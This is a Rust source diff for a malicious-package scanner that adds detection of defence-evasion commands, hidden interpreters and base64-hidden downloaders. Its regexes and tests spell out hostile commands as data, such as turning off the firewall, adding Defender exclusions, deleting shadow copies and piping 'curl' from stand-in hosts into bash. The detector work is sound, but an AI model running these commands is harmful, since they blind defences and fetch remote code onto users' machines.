@@ -78,6 +78,26 @@ static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
     "
 );
 
+/// Commands that switch off or blind the machine's defences: Defender exclusions and
+/// real-time protection, the firewall, shadow copies and event logs. Administrators do this by
+/// hand or by policy; a Python package has no reason to.
+static DEFENSE_EVASION: LazyLock<Regex> = crate::static_regex!(
+    r"(?ix)
+    \badd-mppreference\b.*-exclusion(path|process|extension|ipaddress)
+    | \bset-mppreference\b.*-disable\w*\s+(\$?true|1)\b
+    | \bnetsh(\.exe)?\s+(advfirewall|firewall)\s+set\b.*\bstate\s+off\b
+    | \bvssadmin(\.exe)?\s+delete\s+shadows\b | \bwbadmin(\.exe)?\s+delete\s+catalog\b
+    | \bbcdedit(\.exe)?\b.*\brecoveryenabled\s+no\b | \bwevtutil(\.exe)?\s+cl\b
+    | \bdisableantispyware\b | \bdisablerealtimemonitoring\b
+    | \b(sc|net)(\.exe)?\s+stop\s+windefend\b | \btaskkill\b.*\bmsmpeng\b
+    "
+);
+
+/// True when a command line switches off or blinds the machine's defences.
+pub fn disables_defenses(command: &str) -> bool {
+    DEFENSE_EVASION.is_match(command)
+}
+
 /// A network tool fed with the output of reconnaissance commands: `curl -H "Hostname:
 /// $(hostname)" -d "$(ls -la)" https://...` reports the machine to its author.
 static RECON_SUBSTITUTION: LazyLock<Regex> = crate::static_regex!(
@@ -108,7 +128,7 @@ pub fn is_dangerous_command(command: &str) -> bool {
 /// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
 /// command line. Installers pipe scripts to a shell; only droppers fetch an unnamed program and
 /// mark it executable.
-fn fetches_and_marks_executable(command: &str) -> bool {
+pub(crate) fn fetches_and_marks_executable(command: &str) -> bool {
     static SAVE: LazyLock<Regex> = crate::static_regex!(
         r"(?i)\b(curl|wget)\b.*(\s-[a-z]*[oO]\b|--output|--output-document|>)"
     );
@@ -130,10 +150,17 @@ fn starts_dropped_file(command: &str) -> bool {
     static DROPPED: LazyLock<Regex> = crate::static_regex!(
         r#"(?ix)
         (^|[\s"'/\\])[^\s"']+\.(exe|vbs|vbe|bat|cmd|ps1|scr|hta|pyw)(\s|"|'|$)
-        | ^\s*(ba|z)?sh\s+/tmp/ | ^\s*/tmp/\S+
+        | ^\s*(ba|z)?sh\s+["']?/tmp/ | ^\s*["']?/tmp/\S+
         "#
     );
     DROPPED.is_match(command)
+}
+
+/// `pythonw …`, `start /b python …`: a second interpreter started without a console window.
+fn starts_hidden_interpreter(command: &str) -> bool {
+    static HIDDEN: LazyLock<Regex> =
+        crate::static_regex!(r"(?i)(^|[\s/\\])pythonw(\.exe)?(\s|$)|\bstart\s+/b\s+\S*python");
+    HIDDEN.is_match(command)
 }
 
 /// `python -c ...`, `pythonw x.pyw`: a command that starts another Python interpreter.
@@ -203,12 +230,33 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let shown = super::argument_text(checker, call);
     checker.note_program(command.as_ref().or(partial.as_ref()).unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
+    let evasion = command
+        .as_ref()
+        .or(partial.as_ref())
+        .filter(|text| disables_defenses(text));
     let (severity, tags, message) = match (&command, &partial) {
+        _ if let Some(text) = evasion => (
+            // Only malware needs the antivirus or the firewall out of its way.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.92,
+                ExecContext::Runtime => 0.8,
+                ExecContext::TestOrDocs => 0.2,
+            },
+            vec!["spawn", "defense-evasion"],
+            format!(
+                "{qualname} runs `{}`, which disables or blinds the machine's defences",
+                crate::text::shorten(text, 160)
+            ),
+        ),
         (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
             match context {
                 ExecContext::Install | ExecContext::Import => {
                     if is_dangerous_command(partial) {
                         0.85
+                    } else if starts_hidden_interpreter(partial) {
+                        // `start pythonw.exe <temp file>` while loading: a windowless second
+                        // interpreter on code the package computed.
+                        0.7
                     } else {
                         0.5
                     }
@@ -292,10 +340,16 @@ fn check_hidden_command(
     let Some(decoder) = super::dynamic_exec::contains_decoding(checker, arg) else {
         return;
     };
-    let severity = match context {
-        ExecContext::Install | ExecContext::Import => 0.6,
-        ExecContext::Runtime => 0.35,
-        ExecContext::TestOrDocs => 0.1,
+    // Installers spell out their `curl … | sh`; one decoded from base64 first is hidden from
+    // the very reviewer who would object to it, whoever calls the function.
+    let payload = is_dangerous_command(command) || fetches_and_marks_executable(command);
+    let severity = match (context, payload) {
+        (ExecContext::Install | ExecContext::Import, true) => 0.9,
+        (ExecContext::Install | ExecContext::Import, false) => 0.6,
+        (ExecContext::Runtime, true) => 0.75,
+        (ExecContext::Runtime, false) => 0.35,
+        (ExecContext::TestOrDocs, true) => 0.2,
+        (ExecContext::TestOrDocs, false) => 0.1,
     };
     checker.report(
         &RULE,
@@ -339,8 +393,10 @@ fn check_hidden_window(
     {
         return;
     }
+    // Importing a library never needs a process the user cannot see.
     let severity = match context {
-        ExecContext::Install | ExecContext::Import => 0.5,
+        ExecContext::Import => 0.7,
+        ExecContext::Install => 0.6,
         ExecContext::Runtime => 0.1,
         ExecContext::TestOrDocs => 0.03,
     };
@@ -451,6 +507,17 @@ mod tests {
     use crate::rules::testing::max_severity;
 
     #[test]
+    fn switching_defences_off_is_malicious_in_any_context() {
+        let code = "import subprocess\ndef prepare(path):\n    subprocess.run(f'powershell -Command Add-MpPreference -ExclusionPath \"{path}\"', shell=True)\n";
+        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.8);
+        let firewall =
+            "import os\ndef go():\n    os.system('netsh advfirewall set allprofiles state off')\n";
+        assert!(max_severity("p/p/core.py", firewall, "WH120") >= 0.8);
+        let query = "import subprocess\ndef status():\n    subprocess.run(['powershell', '-Command', 'Get-MpPreference'])\n";
+        assert!(max_severity("p/p/core.py", query, "WH120") < 0.3);
+    }
+
+    #[test]
     fn dropper_commands_are_severe() {
         assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
         assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
@@ -513,6 +580,10 @@ mod tests {
         assert!(starts_dropped_file("C:\\Windows\\Temp\\Alistener.exe"));
         assert!(starts_dropped_file("./pip_installer.exe"));
         assert!(starts_dropped_file("bash /tmp/start.sh"));
+        assert!(starts_dropped_file("\"/tmp/.pip/pip autoupdate\" &"));
+        assert!(starts_hidden_interpreter("start pythonw.exe …"));
+        assert!(starts_hidden_interpreter("start /b C:\\py\\python.exe x"));
+        assert!(!starts_hidden_interpreter("python -m pip --version"));
         assert!(starts_dropped_file("wscript main.scripts.cpython-39.vbs"));
         assert!(!starts_dropped_file("gcc -o foo foo.c"));
         assert!(!starts_dropped_file("git describe"));
@@ -548,6 +619,15 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
         let plain = "import os\nos.system('type nul > x.txt')\n";
         assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
+    }
+
+    #[test]
+    fn a_download_and_run_decoded_by_a_helper_is_malicious_when_called() {
+        // base64 of "curl https://x.example/i.sh | bash", decoded by the package's own helper.
+        let code = "import base64, subprocess\ndef unpack(s):\n    raw = base64.b64decode(s)\n    return raw.decode()\ndef run():\n    cmd = [unpack('Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgYmFzaA==')]\n    subprocess.Popen(cmd)\n";
+        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.75);
+        let plain = "import subprocess\ndef run():\n    subprocess.Popen(['curl https://x.example/i.sh | bash'])\n";
+        assert!(max_severity("p/p/core.py", plain, "WH120") < 0.7);
     }
 
     #[test]
